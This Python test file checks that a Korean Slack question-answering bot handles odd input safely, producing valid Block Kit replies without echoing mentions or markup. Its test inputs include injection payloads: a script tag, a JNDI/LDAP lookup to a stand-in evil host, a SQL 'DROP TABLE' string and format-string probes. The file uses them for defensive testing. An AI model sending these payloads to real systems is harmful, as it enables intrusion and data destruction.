"""Odd input: every string gets a clear status and valid Block Kit, quickly, with no echo."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.answer import MAX_QUESTION_CHARS, Answerer
from bot.guide import Guide
from bot.render_text import render
from bot.slack.render import SECTION_LIMIT, answer_message

ODD_INPUTS = [
    "",
    "   \t\n  ",
    "?!?!...",
    "🎉🎉🎉🔥🔥",
    "ㅋㅋㅋㅋㅋ",
    "ㅠㅠ",
    "강화 학습 " * 4000,  # 40 000 characters
    "ICML\u200b2018\u200d은\ufeff 어디서 개최됐어?",  # zero-width characters
    "\u202eICML 2018\u202c 어디서 개최됐어",  # bidi override
    "스톡홀름\u0301\u0301\u0301",  # combining marks
    "ＩＣＭＬ　２０１８은　어디서　개최됐어？",  # full-width forms
    "\x00\x01\x07ICML\x1b[31m 2018",  # control characters
    "*굵게* _기울임_ ~취소~ `코드` > 인용 <https://evil.example|클릭>",
    "<script>alert(1)</script> ICML",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%n",
    "'; DROP TABLE passages; --",
    "<!channel> <!here> <!everyone> <@U123> <#C123|general> <!subteam^S1|@team>",
]


def _guide(answerer: Answerer) -> Guide:
    return Guide.from_corpus(answerer.index.corpus)


FORBIDDEN = ("<!channel>", "<!here>", "<!everyone>", "<@U123>", "<#C123", "<!subteam", "<script>")


def check_blocks(blocks: list[dict]) -> None:
    assert 0 < len(blocks) <= 50
    for block in blocks:
        text = block.get("text")
        if text:
            assert len(text["text"]) <= SECTION_LIMIT
        for element in block.get("elements", []):
            if "text" in element and isinstance(element["text"], str):
                assert len(element["text"]) <= SECTION_LIMIT


@pytest.mark.parametrize("text", ODD_INPUTS, ids=range(len(ODD_INPUTS)))
def test_odd_input_gets_a_clear_reply_quickly(answerer: Answerer, text: str) -> None:
    started = time.perf_counter()
    answer = answerer.answer(text)
    message = answer_message(answer, guide=_guide(answerer), shareable=True)
    assert time.perf_counter() - started < 1.0
    assert answer.status in ("answer", "related", "no_answer", "help")
    check_blocks(message.blocks)
    sent = json.dumps(message.blocks, ensure_ascii=False) + message.text
    for token in FORBIDDEN:
        assert token not in sent
    assert "<https://evil.example" not in sent
    assert render(answer, guide=_guide(answerer))


def test_empty_punctuation_emoji_and_jamo_get_help(answerer: Answerer) -> None:
    for text in ODD_INPUTS[:6]:
        assert answerer.answer(text).status == "help", text


def test_a_very_long_message_is_cut_and_says_so(answerer: Answerer) -> None:
    answer = answerer.answer("강화 학습이 가장 많이 채택됐어? " * 2000)
    assert answer.truncated
    assert answer.status == "answer"
    assert "앞부분만" in json.dumps(
        answer_message(answer, guide=_guide(answerer)).blocks, ensure_ascii=False
    )
    assert MAX_QUESTION_CHARS < 40_000


def test_normalised_forms_find_the_same_passage(answerer: Answerer) -> None:
    plain = answerer.answer("ICML 2018은 어디서 개최됐어?").results[0].passage_id
    for text in ODD_INPUTS[7:11]:
        answer = answerer.answer(text)
        assert answer.status == "answer", text
        assert answer.results[0].passage_id == plain, text


@settings(max_examples=150, deadline=1000, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=300))
def test_any_unicode_gives_a_valid_answer_and_block_kit(answerer: Answerer, text: str) -> None:
    answer = answerer.answer(text)
    assert answer.status in ("answer", "related", "no_answer", "help")
    assert (answer.status in ("answer", "related")) == bool(answer.results)
    message = answer_message(answer, guide=_guide(answerer), shareable=True)
    check_blocks(message.blocks)
    assert len(message.text) <= 3000
    json.dumps(answer.as_dict(), ensure_ascii=False)


@settings(max_examples=60, deadline=1000, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.sampled_from(
            [
                "<!channel>",
                "<!here>",
                "<@U1>",
                "*",
                "_",
                "~",
                "`",
                "<",
                ">",
                "&",
                "ICML",
                "강화",
                "학습",
                " ",
            ]
        ),
        max_size=40,
    )
)
def test_markup_and_mentions_never_leak(answerer: Answerer, parts: list[str]) -> None:
    message = answer_message(
        answerer.answer("".join(parts)), guide=_guide(answerer), shareable=True
    )
    sent = json.dumps(message.blocks, ensure_ascii=False)
    for token in ("<!channel>", "<!here>", "<@U1>"):
        assert token not in sent
